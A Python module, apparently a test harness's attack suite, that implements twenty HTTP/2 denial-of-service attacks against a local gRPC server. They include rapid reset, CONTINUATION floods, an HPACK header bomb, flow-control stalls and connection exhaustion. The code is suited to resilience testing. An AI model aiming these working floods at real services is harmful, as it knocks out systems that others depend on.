"""What a client can do to a server. Each attack is a function of the port and of when to stop."""

import itertools
import select
import socket
import struct
import time

from .wire import (CANCEL, CONTINUATION, DATA, EMPTY, END_HEADERS, END_STREAM, HEADERS, HEALTH, LARGEST_WINDOW, MESSAGE, PING,
                   PREFACE, PRIORITY, RST_STREAM, connect, frame, literal, request, request_block, settings,
                   window_update)

BLOCK = request_block("GetMetricSpec")
STREAM_BLOCK = request_block("StreamIsActive")
SPEC_STREAM_BLOCK = request_block("StreamMetricSpec")
WATCH_BLOCK = request_block("Watch", HEALTH)
ELSEWHERE = "127.0.0.2"  # an attacker who takes what an address may have takes it from those of that address
FULL = 16384  # as long as a frame may be
STREAMS = 10000
SILENT = 10000
REFUSED_CONNECTIONS = 250


# ---- how an attacker sends ----

def pour(connection, chunks, until, reads=True):
    """Sends all that the server takes; what it says is read and forgotten, or not even read."""
    connection.setblocking(False)
    left = b""
    while time.monotonic() < until:
        if not left and not (left := next(chunks, b"")):
            time.sleep(0.01)
        readable, writable, _ = select.select([connection] if reads else [], [connection] if left else [], [], 0.1)
        if readable and not connection.recv(1 << 20):
            return
        if writable:
            left = left[connection.send(left[:1 << 18]):]


def flood(port, until, chunks_of_a_connection, greeting=PREFACE + settings(), reads=True, source="127.0.0.1"):
    """Comes back at once, each time that it is thrown out."""
    while time.monotonic() < until:
        try:
            with connect(port, greeting, source=source) as connection:
                pour(connection, chunks_of_a_connection(), until, reads)
        except OSError:
            time.sleep(0.001)


def hold(port, until, count, greeting):
    """Opens many connections, says little, and waits."""
    held = []
    while time.monotonic() < until:
        if len(held) >= count:
            time.sleep(0.1)
            continue
        try:
            connection = socket.create_connection(("127.0.0.1", port), timeout=1)
            held.append(connection)
            connection.sendall(greeting)
        except OSError:
            time.sleep(0.001)


def in_chunks(frames, count=1000):
    frames = iter(frames)
    while chunk := b"".join(itertools.islice(frames, count)):
        yield chunk


def streams():
    return range(1, 1 << 31, 2)


# ---- the attacks ----

def rapid_reset(port, until):
    cancel = struct.pack(">I", CANCEL)
    flood(port, until, lambda: in_chunks(
        frame(HEADERS, END_HEADERS, stream, STREAM_BLOCK) + frame(DATA, 0, stream, MESSAGE)
        + frame(RST_STREAM, 0, stream, cancel) for stream in streams()))


def continuation_flood(port, until):
    """Headers that never end; the server's SETTINGS are not acknowledged, so its limits are not known."""
    more = frame(CONTINUATION, 0, 1, literal(b"x-padding", b"y" * 1000))
    flood(port, until, lambda: itertools.chain([frame(HEADERS, 0, 1, BLOCK)], itertools.repeat(more * 100)))


def empty_continuation_flood(port, until):
    more = frame(CONTINUATION, 0, 1)
    flood(port, until, lambda: itertools.chain([frame(HEADERS, 0, 1, BLOCK)], itertools.repeat(more * 5000)))


def settings_flood(port, until):
    flood(port, until, lambda: itertools.repeat(settings(INITIAL_WINDOW_SIZE=65535) * 2000))


def ping_flood(port, until):
    flood(port, until, lambda: itertools.repeat(frame(PING, payload=bytes(8)) * 2000))


def unread_ping_flood(port, until):
    """The server's answers are not read."""
    flood(port, until, lambda: itertools.repeat(frame(PING, payload=bytes(8)) * 2000), reads=False)


def bomb(stream):
    """Four KiB, kept in the decoder's table, and named sixteen thousand times in one byte each."""
    block = BLOCK + literal(b"x", b"y" * 4000, indexed=True)
    block += b"\xbe" * (FULL - len(block))
    return frame(HEADERS, END_HEADERS, stream, block)


def indexed_header_bomb(port, until):
    flood(port, until, lambda: map(bomb, streams()))


def one_huge_header(port, until):
    """Fifteen megabytes."""
    block = BLOCK + literal(b"x-huge", b"y" * 15_000_000)
    parts = [block[at:at + FULL] for at in range(0, len(block), FULL)]
    whole = (frame(HEADERS, 0, 1, parts[0]) + b"".join(frame(CONTINUATION, 0, 1, part) for part in parts[1:-1])
             + frame(CONTINUATION, END_HEADERS, 1, parts[-1]))
    flood(port, until, lambda: iter([whole]))


def empty_data_flood(port, until):
    flood(port, until, lambda: itertools.chain(
        [frame(HEADERS, END_HEADERS, 1, BLOCK)], itertools.repeat(frame(DATA, 0, 1) * 5000)))


def priority_flood(port, until):
    weight = struct.pack(">IB", 0, 7)
    flood(port, until, lambda: in_chunks(frame(PRIORITY, 0, stream, weight) for stream in streams()))


def one_byte_windows(port, until):
    """Ten thousand answers, taken a byte at a time."""
    calls = [request(stream, BLOCK) for stream in range(1, 2 * STREAMS, 2)]
    bytes_of_all = b"".join(window_update(stream, 1) for stream in range(1, 2 * STREAMS, 2))
    flood(port, until, lambda: itertools.chain(in_chunks(calls), itertools.repeat(bytes_of_all)),
          PREFACE + settings(INITIAL_WINDOW_SIZE=1) + window_update(0, LARGEST_WINDOW - 65535))


def zero_windows(port, until):
    """Ten thousand answers that may not be sent."""
    calls = [request(stream, BLOCK) for stream in range(1, 2 * STREAMS, 2)]
    flood(port, until, lambda: in_chunks(calls), PREFACE + settings(INITIAL_WINDOW_SIZE=0))


def untaken_streams(port, until):
    """Streams without end, each over with its second message, whose answers may not be sent."""
    flood(port, until, lambda: in_chunks(frame(HEADERS, END_HEADERS, stream, SPEC_STREAM_BLOCK)
                                         + frame(DATA, 0, stream, MESSAGE * 2) for stream in streams()),
          PREFACE + settings(INITIAL_WINDOW_SIZE=0), source=ELSEWHERE)


def never_reads(port, until):
    """Calls without end, whose answers may all be sent, and are not read."""
    flood(port, until, lambda: in_chunks(request(stream, BLOCK) for stream in streams()),
          PREFACE + settings(INITIAL_WINDOW_SIZE=LARGEST_WINDOW) + window_update(0, LARGEST_WINDOW - 65535),
          reads=False)


def half_messages(port, until):
    """Calls without end, with one full frame each of a message that has four."""
    piece = struct.pack(">BI", 0, 4 * FULL - 5) + bytes(FULL - 5)
    flood(port, until, lambda: in_chunks((frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(DATA, 0, stream, piece)
                                          for stream in streams()), 20), source=ELSEWHERE)


def endless_streams(port, until):
    """Of the service that anybody may watch."""
    flood(port, until, lambda: in_chunks(request(stream, WATCH_BLOCK, EMPTY) for stream in streams()),
          source=ELSEWHERE)


def refused_requests(port, until):
    """GETs on many connections at once, as many as the server reads of each in one go, in 13 bytes each."""
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/")]
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1,
                  b"".join(literal(*field) for field in fields) + literal(b":authority", b"a", indexed=True))
    indexed = bytes([0x82, 0x86, 0x84, 0xbe])
    more = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, indexed) for stream in range(3, 5003, 2))
    while time.monotonic() < until:
        opened = []
        try:
            for _ in range(REFUSED_CONNECTIONS):
                opened.append(connect(port, PREFACE + settings() + first, source=ELSEWHERE))
            for connection in opened:
                connection.setblocking(False)
                connection.send(more)
            time.sleep(0.5)
        except OSError:
            time.sleep(0.001)
        for connection in opened:
            connection.close()


def silent_connections(port, until):
    hold(port, until, SILENT, b"")


def half_a_frame(port, until):
    half = frame(HEADERS, END_HEADERS, 1, BLOCK)
    hold(port, until, SILENT // 50, PREFACE + settings() + half[:len(half) // 2])


def descriptors_used_up(port, until):
    """The server has few (the runner sees to it), and many want in."""
    hold(port, until, 500, PREFACE + settings())


DESCRIPTORS = 64  # of the server, in the last one

ATTACKS = [rapid_reset, continuation_flood, empty_continuation_flood, settings_flood, ping_flood, unread_ping_flood,
           indexed_header_bomb, one_huge_header, empty_data_flood, priority_flood, one_byte_windows, zero_windows,
           untaken_streams, never_reads, half_messages, endless_streams, refused_requests, silent_connections,
           half_a_frame, descriptors_used_up]


def title(attack):
    return attack.__name__.replace("_", " ")
